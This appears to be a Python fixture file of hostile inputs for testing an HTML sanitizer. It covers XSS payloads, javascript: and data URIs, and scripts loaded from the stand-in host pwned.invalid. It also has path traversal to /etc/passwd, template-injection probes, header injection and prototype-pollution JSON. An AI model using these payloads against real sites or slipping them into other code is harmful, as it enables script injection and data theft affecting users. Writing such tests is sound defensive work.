"""Texts that want more than to be read. Each tries to call `pwned` with its own name, or to become a part of the page.

Nothing a text brings along may be found in a page as a tag or an attribute: where it invents one, it is called pwned.
"""

from __future__ import annotations

from collections.abc import Mapping

TEXTS: Mapping[str, str] = {
    # tags
    "script": "<script>pwned('script')</script>",
    "script in pieces": "<scr<script>ipt>pwned('pieces')</scr</script>ipt>",
    "script, odd case": "<ScRiPt\t>pwned('case')</sCrIpT >",
    "script from elsewhere": "<script src=//pwned.invalid/x.js></script>",
    "module": '<script type="module">import "//pwned.invalid/m.mjs"</script>',
    "image": "<img src=x onerror=pwned('image') pwned>",
    "image from elsewhere": '<img pwned src="http://pwned.invalid/track.gif">',
    "svg": "<svg pwned onload=pwned('svg')><animate onbegin=pwned('animate') attributeName=x></svg>",
    "svg with a script": "<svg><script>pwned('svg script')</script><use href='data:image/svg+xml,pwned'></use></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned(1)&gt;'>",
    "frame": "<iframe srcdoc='<script>parent.pwned(\"frame\")</script>' pwned></iframe>",
    "object": "<object data=javascript:pwned('object')><embed src=javascript:pwned('embed')>",
    "details": "<details open ontoggle=pwned('details') pwned><summary>more</summary></details>",
    "focus": "<input autofocus onfocus=pwned('focus') pwned><select autofocus onfocus=pwned('select')></select>",
    "base": "<base href=//pwned.invalid/><base target=_blank>",
    "meta": '<meta http-equiv="refresh" content="0;url=//pwned.invalid/">',
    "link": '<link rel="stylesheet" href="//pwned.invalid/x.css">',
    "form": '<form action="//pwned.invalid/" id="pwned"><button formaction="javascript:pwned(\'form\')">Go</button>',
    "custom element": "<pwned-element pwned>hello</pwned-element>",
    # out of where a text stands
    "out of an attribute": "\"><img src=x onerror=pwned('attribute') pwned>",
    "out of a single quote": "'><svg/onload=pwned('single') pwned>",
    "new attribute": "\" onmouseover=\"pwned('hover')\" autofocus onfocus=\"pwned('focus')\" pwned=\"",
    "new attribute without quotes": "x onpointerenter=pwned('pointer') pwned=1 style=position:fixed;inset:0",
    "backtick": "`onmouseover=pwned('backtick')` pwned",
    "out of a title": "</title><script>pwned('title')</script>",
    "out of a text area": "</textarea><script>pwned('textarea')</script>",
    "out of a script": "</script><script>pwned('out of script')</script>",
    "out of a style": "</style><script>pwned('style')</script>",
    "out of a template": "</template></noscript></select></option></button><img src onerror=pwned('nest') pwned>",
    "out of a table": "</td></tr></table></main></body></html><script>pwned('table')</script>",
    "out of a comment": "--><script>pwned('comment')</script><!--",
    "out of data": "]]><script>pwned('cdata')</script>",
    "out of pre": "</code></pre><plaintext pwned>",
    # addresses
    "script address": "javascript:pwned('address')",
    "script address, hidden": " java\tscr\nipt:pwned('hidden')",
    "script address, entities": "&#106;avascript&colon;pwned('entities')",
    "data address": "data:text/html,<script>pwned('data')</script>",
    "another host": "//pwned.invalid/path",
    "another host, back slash": "/\\pwned.invalid/path",
    "up the folders": "../../../../etc/passwd",
    "up, encoded": "..%2f..%2f%00.html?a=1#pwned&b=2;c=3%0d%0aX-Pwned:1",
    "markdown": "[see](javascript:pwned('markdown')) ![x](http://pwned.invalid/i.png)",
    # languages of templates and scripts
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}{{ config }}",
    "template, escape": "{{ '<b pwned>'|safe }}{% include '/etc/passwd' %}{{ self.__init__.__globals__ }}",
    "htmx": '<div hx-get="/pwned" hx-trigger="load" hx-on::load="pwned(\'htmx\')" pwned></div>',
    "htmx, attribute": '" hx-get="/pwned" hx-trigger="load" hx-target="body" pwned="',
    "htmx, part": '<hx-partial hx-target="body" pwned>gone</hx-partial><template hx type="partial"></template>',
    "out of JSON": '"}],"pwned":{"a":"\\"</script><script>pwned(\'json\')</script>',
    "prototype": '{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":2}}}',
    "constructor": "__proto__",
    "style": "x;background:url(//pwned.invalid/bg.png);}*{display:none}@import'//pwned.invalid/x.css';",
    "expression": '<div style="width:expression(pwned(1));position:fixed;inset:0;z-index:9" pwned>over</div>',
    "many at once": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned('poly') )//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!><sVg/<sVg/oNloAd=pwned('polyglot') pwned//>",
    # letters
    "entities": "&lt;script&gt;pwned('twice')&lt;/script&gt; &amp;lt; &#60; &quot;",
    "null": "before\x00<scr\x00ipt>pwned('null')</script>",
    "control characters": "bell\x07 back\x08 escape\x1b[31mred\x1b[0m delete\x7f next\x85 shift\x9b2J",
    "direction": "abc\u202e<gnp.\u202c\u2066 isolate\u2069 \u200emark\u200f",
    "line separators": "one\u2028two\u2029three",
    "lines": "first\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned('header')</script>\nlast",
    "nothing to see": "\u200b\u2060\ufeff\u00ad",
    "many marks": "z" + "\u0351\u0363\u0358" * 40,
    "outside the plane": "\U0001f6b2\U000e0041\U000e0042 \U0001d553",
    "wide": "\uff1cscript\uff1epwned('wide')\uff1c/script\uff1e \u02bc \ufe64",
    "one long word": "pwned" * 400,
    "long": "<b pwned>and on it goes</b> " * 300,
    "empty lines": "\n\n\n  \t end",
}  # fmt: skip
"""What it tries → the text."""
